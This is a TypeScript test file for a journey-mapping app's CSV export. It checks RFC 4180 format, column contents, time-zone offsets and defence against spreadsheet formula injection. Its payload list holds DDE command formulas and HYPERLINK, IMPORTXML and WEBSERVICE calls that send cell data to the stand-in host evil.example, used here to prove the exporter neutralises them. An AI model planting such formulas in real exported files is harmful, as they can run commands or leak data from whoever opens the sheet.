// The table: RFC 4180, one line a touchpoint, and no cell that a spreadsheet would run.
import { describe, expect, test } from 'vitest';
import { placeMap } from '@/lib/domain/place-map';
import { csvLine, numberCell, textCell } from '@/lib/export/csv/csv-cell';
import { isoInstant } from '@/lib/export/csv/iso-instant';
import { sheetCsv } from '@/lib/export/csv/sheet-csv';
import { newTableSource } from '@/lib/export/tables/table-source';
import { touchpointsSheet } from '@/lib/export/tables/touchpoints-sheet';
import { loadText } from '@/lib/text/text';
import { cardRow, emotionOf, idOf, laneRows, mapRows, START } from '../../../support/rows';
import { parseCsv } from '../parse-csv';

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=WEBSERVICE("http://evil.example")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  '+cmd|calc!A0',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|calc!A0',
  '@import',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  ' =1+1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\u202E=1+1',
  '\u0000=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '﹦1+1',
  'harmless";=1+1',
  'harmless\n=1+1',
  'harmless\r\n\t@SUM(1)',
  'harmless;=1+1',
  'harmless\t=1+1',
];

/** Every cell as a comma, a semicolon or a TAB reader would see it, quotes kept or not. */
function cellsOfAnyReader(text: string): string[] {
  return text.split(/[\r\n]+/).flatMap((line) => [line, ...line.split(';'), ...line.split('\t')]);
}

describe('formulas', () => {
  test.each(PAYLOADS)('%j stays text', (payload) => {
    const [[cell] = []] = parseCsv(csvLine([textCell(payload)]));
    expect(cell).toBeDefined();
    for (const seen of cellsOfAnyReader(cell ?? '')) {
      expect(seen.replace(/^[\s\p{Cc}\p{Cf}"]+/u, '')).not.toMatch(/^[=+\-@＝＋－＠﹢﹣﹦﹫]/);
    }
    // Nothing of the text is lost but control characters and the guard itself.
    const bare = (text: string) => text.replaceAll("'", '').replaceAll('\u0000', '');
    expect(bare(cell ?? '')).toBe(bare(payload));
  });

  test('harmless text is written as it is', () => {
    for (const text of ['', 'a "quoted" word', '2 - 1 = 1', 'mail@shop.example', '价格：-5 元', 'x=1; y=2']) {
      expect(parseCsv(csvLine([textCell(text)]))).toEqual([[text]]);
    }
  });

  test('a number of ours keeps its minus', () => {
    expect([numberCell(-2), numberCell(0), numberCell(null), numberCell(undefined)]).toEqual([
      '"-2"',
      '"0"',
      '""',
      '""',
    ]);
  });
});

async function table(
  change: (rows: ReturnType<typeof mapRows>) => void = () => {},
  runs = 1,
  language: 'en' | 'zh' = 'en',
) {
  const rows = mapRows({ runs, language });
  change(rows);
  const t = await loadText(language);
  const made = { at: START, appVersion: '0.1.0' };
  const source = newTableSource({ map: placeMap(rows), mapRows: rows, t, language, made }, []);
  const text = sheetCsv(touchpointsSheet(source), t);
  const [head = [], ...lines] = parseCsv(text.slice(1));
  const records = lines.map((line) => Object.fromEntries(head.map((name, i) => [name, line[i]])));
  return { text, head, lines, records };
}

test('one record a touchpoint, all quoted, CRLF, with a byte order mark', async () => {
  const { text, head, lines } = await table();
  expect(text.charCodeAt(0)).toBe(0xfeff);
  expect(lines).toHaveLength(12);
  for (const line of lines) expect(line).toHaveLength(head.length);
  expect(text.slice(1)).toMatch(/^("([^"]|"")*"(,"([^"]|"")*")*\r\n)+$/);
});

test('the story is told in the columns', async () => {
  const { records } = await table();
  expect(records[4]).toMatchObject({
    'No.': '5',
    Stage: 'Decision',
    Touchpoint: 'Enters the address',
    Channel: 'Web',
    Page: 'https://shop.example/checkout/address',
    'Feeling (-2 to 2)': '-2',
    'Expected feeling (-2 to 2)': '1',
    Gap: '-3',
    'Moment of truth': 'yes',
    'Would leave': 'yes',
    'Reason for leaving': 'The other shop has it too',
    Pains: 'The error says only “invalid” (4 blocker, clarity)',
    'Time spent (s)': '156',
    'Load time (ms)': '1900',
    Evidence: 'observed',
    Walkthrough: 'Buying a coffee machine',
  });
  expect(records[6]).toMatchObject({ 'Feeling (-2 to 2)': '', Gap: '' });
});

test('feelings by name, turns, waits and who validated it have columns of their own', async () => {
  const { records } = await table((rows) => {
    Object.assign(rows.touchpoints[4] as object, {
      namedEmotions: ['doubt', 'worry'],
      engagement: { scale: 'engagement', value: 4, at: START },
      decisionPoint: true,
      handOff: 'phone',
      tags: ['slow', 'mobile'],
      waiting: { what: 'Parcel', since: START, remindAt: null, endedAt: START + 90_000 },
      evidence: 'validated',
      validatedBy: 'Ines',
      validatedAt: START,
    });
    Object.assign(rows.touchpoints[5] as object, {
      waiting: { what: 'Refund', since: START, remindAt: null, endedAt: null },
    });
  });
  expect(records[4]).toMatchObject({
    'Named feelings': 'doubt | worry',
    'Engagement (1 to 5)': '4',
    'Decision point': 'yes',
    'Sent on to': 'Phone',
    Tags: 'slow | mobile',
    'Waiting for': 'Parcel',
    'Waited (s)': '90',
    Evidence: 'validated',
    'Validated by': 'Ines',
    'Validated on': '2026-11-12T15:00:00+01:00',
  });
  expect(records[5]).toMatchObject({ 'Waiting for': 'Refund', 'Waited (s)': '' });
});

test('a hostile page cannot put a formula into any column', async () => {
  const evil = '=HYPERLINK("http://evil.example")';
  const { lines } = await table((rows) => {
    for (const touchpoint of rows.touchpoints) {
      const words = {
        title: evil,
        doing: evil,
        thinking: evil,
        feeling: evil,
        expected: evil,
        quote: evil,
        note: evil,
      };
      const waiting = { what: evil, since: START, remindAt: null, endedAt: null };
      Object.assign(touchpoint, { tags: [evil], waiting, validatedBy: evil });
      Object.assign(touchpoint, words, { url: evil, wouldLeave: evil, emotion: emotionOf(-2) });
    }
    for (const stage of rows.stages) stage.name = evil;
    for (const finding of rows.findings) finding.text = evil;
    for (const run of rows.walkthroughs) Object.assign(run, { name: evil, shopper: evil });
  });
  for (const cell of lines.flat()) expect(cell).not.toMatch(/^[=+@]|^-(?!\d+$)/);
});

test('several runs: every touchpoint of a step has its line, run after run', async () => {
  const { records } = await table(() => {}, 3);
  expect(records).toHaveLength(36);
  expect(records.slice(0, 3).map((record) => record.Time)).toEqual([
    '2026-11-12T15:00:00+01:00',
    '2026-11-13T15:00:00+01:00',
    '2026-11-14T15:00:00+01:00',
  ]);
  expect(records.map((record) => record['No.'])).toEqual(records.map((_, i) => String(i + 1)));
});

test('the headers speak Chinese', async () => {
  const { head } = await table(() => {}, 1, 'zh');
  expect(head.slice(0, 4)).toEqual(['序号', '阶段', '步骤', '触点']);
});

test('instants carry the offset of the zone', () => {
  expect(isoInstant(START, 'Europe/Berlin')).toBe('2026-11-12T15:00:00+01:00');
  expect(isoInstant(START, 'Asia/Kolkata')).toBe('2026-11-12T19:30:00+05:30');
  expect(isoInstant(START, 'America/St_Johns')).toBe('2026-11-12T10:30:00-03:30');
  expect(isoInstant(START, 'Nowhere/Atlantis')).toBe('2026-11-12T14:00:00+00:00');
});

test('what is not observed says so, and lanes of cards have columns of their own', async () => {
  const { records, head } = await table((rows) => {
    rows.lanes = laneRows(['stage', 'step', 'pain', 'owner']);
    rows.cards = [cardRow({ laneId: idOf('lane', 4), touchpointId: idOf('tp', 5), text: 'Shop team' })];
    rows.findings = rows.findings.map((row) => ({ ...row, evidence: 'assumed' }));
  });
  expect(head.at(-1)).toBe('Owners');
  expect(records[4]?.Owners).toBe('Shop team (assumed)');
  expect(records[3]?.Owners).toBe('');
  expect(records[4]?.Pains).toContain('clarity, assumed)');
});
